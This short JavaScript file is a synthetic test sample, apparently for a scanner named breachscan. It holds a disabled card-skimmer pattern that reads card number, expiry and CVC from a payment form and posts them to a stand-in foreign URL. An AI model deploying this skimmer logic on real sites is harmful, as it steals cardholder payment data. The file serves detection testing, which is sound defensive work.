/* synthetic test sample for breachscan: plain skimmer shape - on submit the card number,
 * expiry and CVC are posted as JSON to a hard-coded foreign URL. Inert (`if (false)`). */
if (false) {
  var form = document.getElementById("payment-form");
  form.addEventListener("submit", function () {
    var data = { number: form.card_number.value, exp: form.card_exp.value, cvc: form.card_cvc.value };
    fetch("https://payments-cdn.invalid/collect", { method: "POST", body: JSON.stringify(data) });
  });
}
